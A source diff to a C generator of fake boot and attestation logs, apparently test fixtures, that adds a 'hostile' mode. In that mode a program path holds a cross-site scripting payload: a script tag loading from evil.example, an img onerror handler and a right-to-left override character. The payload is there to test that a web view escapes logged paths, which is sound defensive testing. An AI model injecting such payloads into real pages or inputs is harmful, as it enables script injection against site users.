@@ -3,9 +3,10 @@
  * Stands in for a machine's boot and module in the folder it is given: log,
  * firmware, known.txt, boot.json, extends, for tpm2_pcrextend, and acme.pol, a
  * policy that calls a label.
- * usage: make_log FOLDER good|rogue|data|left [RECORDS]
+ * usage: make_log FOLDER good|rogue|data|left|hostile [RECORDS]
  * RECORDS more of nearly a MiB each follow those that are given.  "data" has
- * owners, policies and flows; in "left" one more flow happened that was denied.
+ * owners, policies and flows; in "left" one more flow happened that was denied;
+ * in "hostile" a program's path is what a web page must not take for its own, too.
  */
 #include <stdio.h>
 #include <stdlib.h>
@@ -120,6 +121,15 @@ static void plan_data(struct forge *f, bool left)
 		forge_add(forge_more(f, true), &e);
 }
 
+static void plan_hostile(struct forge *f)
+{
+	plan_data(f, true);
+	forge_code(forge_more(f, false), SHINRAI_EVENT_CODE, SHINRAI_KIND_EXEC,
+		   "evil",
+		   "/</bdi><script src=//evil.example></script>"
+		   "<img src=x onerror='document.title=1'>\"&amp;\xe2\x80\xae");
+}
+
 static void put_policy(void)
 {
 	static const char string[] = "\0drawings";
@@ -160,6 +170,8 @@ int main(int argc, char **argv)
 	/* The last record is the rogue one. */
 	if (!strcmp(argv[2], "good"))
 		f->nrec--;
+	else if (!strcmp(argv[2], "hostile"))
+		plan_hostile(f);
 	else if (strcmp(argv[2], "rogue"))
 		plan_data(f, !strcmp(argv[2], "left"));
 	f->quoted = f->nrec;
